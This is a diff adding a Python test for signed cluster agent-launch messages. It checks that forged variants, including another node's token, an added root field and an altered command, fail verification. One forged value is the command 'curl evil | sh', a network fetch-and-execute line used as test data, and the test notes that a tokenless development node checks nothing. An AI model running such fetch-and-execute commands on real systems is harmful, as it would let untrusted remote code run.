@@ -40,3 +40,20 @@ def test_expiry_is_honoured_when_set():
     assert messages.is_expired({}, {"expires": "2029-12-31T23:59:59"}, now)  # naive = UTC
     with pytest.raises(protocol.ProtocolError, match="^expires"):
         messages.is_expired({"expires": "soon"}, [], now)
+
+
+def test_only_a_command_signed_with_this_nodes_token_passes_and_a_tokenless_agent_takes_any() -> None:
+    from cluster import message_signing
+
+    kwargs = {"job_id": 7, "attempt": 1, "command": "true"}
+    signed = message_signing.signed("n1-token", protocol.AGENT_LAUNCH, kwargs, 1.0)
+    messages.check_signed("n1-token", protocol.AGENT_LAUNCH, signed)
+    messages.check_signed("", protocol.AGENT_LAUNCH, kwargs)  # development stack: no token, nothing checked
+    with pytest.raises(protocol.ProtocolError, match="carries no signature"):
+        messages.check_signed("n1-token", protocol.AGENT_LAUNCH, kwargs)
+    for forged in (message_signing.signed("n2-token", protocol.AGENT_LAUNCH, kwargs, 1.0),  # another node's
+                   {**signed, "command": "curl evil | sh"},  # altered
+                   {**signed, "run_as": "root"},  # a field added
+                   message_signing.signed("n1-token", protocol.AGENT_KILL, kwargs, 1.0)):  # another command's
+        with pytest.raises(protocol.ProtocolError, match="does not verify with this node's token"):
+            messages.check_signed("n1-token", protocol.AGENT_LAUNCH, forged)
